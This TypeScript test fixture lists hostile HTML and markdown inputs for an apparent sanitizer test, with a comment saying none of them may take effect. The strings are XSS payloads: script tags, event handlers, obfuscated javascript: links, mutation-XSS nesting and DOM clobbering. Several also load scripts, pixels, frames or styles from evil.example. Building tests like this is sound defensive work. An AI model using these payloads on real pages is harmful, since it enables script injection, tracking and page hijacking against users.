/**
 * Descriptions by somebody who wants a script to run, a request to be sent, or the page to be covered. Each script sets
 * `window.pwned`; nothing of it may happen.
 */
const PWN = 'window.pwned=1';

export const HOSTILE: readonly string[] = [
  `<script>${PWN}</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `![pixel](https://evil.example/pixel.png)`,
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><a xlink:href="javascript:${PWN}"><text y="20">click</text></a></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}></style></mglyph></table></mtext></math>`,
  `[click](javascript:${PWN})`,
  `[click](JaVaScRiPt:${PWN})`,
  `[click](java&#10;script:${PWN})`,
  `[click](data:text/html,<script>${PWN}</script>)`,
  `[click](vbscript:${PWN})`,
  `<a href="  javascript:${PWN}">click</a>`,
  `<a href="&#x6A;avascript:${PWN}">click</a>`,
  `<a href="https://good.example" onclick="${PWN}">click</a>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">`,
  `<form action="https://evil.example/"><input name=a autofocus onfocus="${PWN}"><button>send</button></form>`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<div style="position:fixed;inset:0;z-index:999;background:url(https://evil.example/b.png)">covered</div>`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<details open ontoggle="${PWN}"><summary>x</summary></details>`,
  `<video><source onerror="${PWN}"></video><audio src=x onerror="${PWN}"></audio>`,
  `<p id="app" class="topbar" name="body">clobber</p><img name="getElementById" src="x">`,
  `\`</code><script>${PWN}</script>\` and <b onmouseover="${PWN}">bold</b>`,
  `</script><script>${PWN}</script><!-- <script> -->`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
];
